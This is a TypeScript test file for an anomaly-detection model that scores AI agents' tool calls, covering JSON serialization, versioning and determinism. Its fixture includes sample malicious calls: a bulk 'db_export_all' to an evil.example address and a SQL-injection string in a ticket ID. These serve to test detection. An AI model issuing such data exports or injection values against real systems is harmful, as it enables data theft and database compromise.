import { afterEach, describe, expect, it, vi } from 'vitest';
import { ANOMALY_MODEL_VERSION, OrgAnomalyModel } from '../../src/anomaly/model.js';
import type { ObservedCall } from '../../src/anomaly/types.js';
import { after, supportAgent, take, train } from './anomaly-fixtures.js';

/** An org of two agents with history, and the calls each would make next (with a few odd ones). */
function org(): { model: OrgAnomalyModel; next: ObservedCall[] } {
  const model = new OrgAnomalyModel();
  const a = supportAgent('a', 1);
  const b = supportAgent('b', 2);
  train(model, a, 1200);
  train(model, b, 800);
  const next = [...take(a, 150), ...take(b, 150)];
  const last = next[next.length - 1]!;
  next.push(after(last, 5_000, { toolName: 'db_export_all', arguments: { to: 'x@evil.example' } }), after(last, 6_000, { arguments: { ticket_id: "1' OR 1=1" } }));
  return { model, next };
}

describe('OrgAnomalyModel.toJSON() / fromJSON()', () => {
  it('round-trips through JSON text to a model that scores every call identically', () => {
    const { model, next } = org();
    const copy = OrgAnomalyModel.fromJSON(JSON.parse(JSON.stringify(model.toJSON())));
    expect(copy.agents()).toEqual(model.agents());
    for (const call of next) expect(copy.assess(call)).toEqual(model.assess(call));
    expect(JSON.stringify(copy.toJSON())).toEqual(JSON.stringify(model.toJSON()));
  });

  it('writes plain, versioned JSON', () => {
    const json = org().model.toJSON();
    expect(json.format).toBe('aegis.anomaly-model');
    expect(json.version).toBe(ANOMALY_MODEL_VERSION);
    expect(JSON.parse(JSON.stringify(json))).toEqual(json);
  });

  it("writes JSON that PostgreSQL's jsonb accepts: no NUL and no lone surrogates, whatever the names sent", () => {
    const model = new OrgAnomalyModel();
    const bad = 'a\u0000b\ud800c';
    for (let i = 0; i < 5; i++) {
      model.assess({
        agentId: `agent${bad}`,
        toolName: `tool${bad}`,
        category: bad,
        signals: [{ id: bad }],
        arguments: { [`key${bad}`]: { [`nested${bad}`]: 1 }, url: `https://h${bad}.example/`, path: `/srv${bad}/x/y`, sql: `SELECT * FROM "t${bad}"` },
        at: new Date(Date.UTC(2025, 0, 6, 9, i)),
      });
    }
    const text = JSON.stringify(model.toJSON());
    expect(text).not.toMatch(/\\u0000|\\ud800/i);
    expect(text).toContain('\ufffd');
    expect(model.callCount(`agent${bad}`)).toBe(5);
  });

  it.each<[string, (j: any) => unknown, RegExp]>([
    ['another version', (j) => ({ ...j, version: 99 }), /anomaly model version 99 is not supported \(this gateway reads version 1\)/],
    ['not a model at all', () => ({ hello: 'world' }), /anomaly model JSON is invalid at format/],
    ['a corrupt field', (j) => ({ ...j, agents: [[j.agents[0][0], { ...j.agents[0][1], calls: 'many' }]] }), /invalid at agents\.0\.1\.calls/],
    ['a truncated hour profile', (j) => ({ ...j, agents: [[j.agents[0][0], { ...j.agents[0][1], hours: { ...j.agents[0][1].hours, week: [1, 2] } }]] }), /invalid at agents\.0\.1\.hours\.week/],
  ])('rejects %s, naming the field', (_, corrupt, message) => {
    const json = JSON.parse(JSON.stringify(org().model.toJSON()));
    expect(() => OrgAnomalyModel.fromJSON(corrupt(json))).toThrow(message);
  });
});

describe('determinism', () => {
  afterEach(() => vi.useRealTimers());

  it('gives the same assessments when the same calls are replayed, whatever the wall clock says', () => {
    const calls = take(supportAgent('a', 7), 1500);
    const first = new OrgAnomalyModel();
    const firstScores = calls.map((c) => first.assess(c));
    vi.useFakeTimers();
    vi.setSystemTime(new Date('2031-07-01T03:00:00Z'));
    const second = new OrgAnomalyModel();
    expect(calls.map((c) => second.assess(c))).toEqual(firstScores);
    expect(second.toJSON()).toEqual(first.toJSON());
  });
});
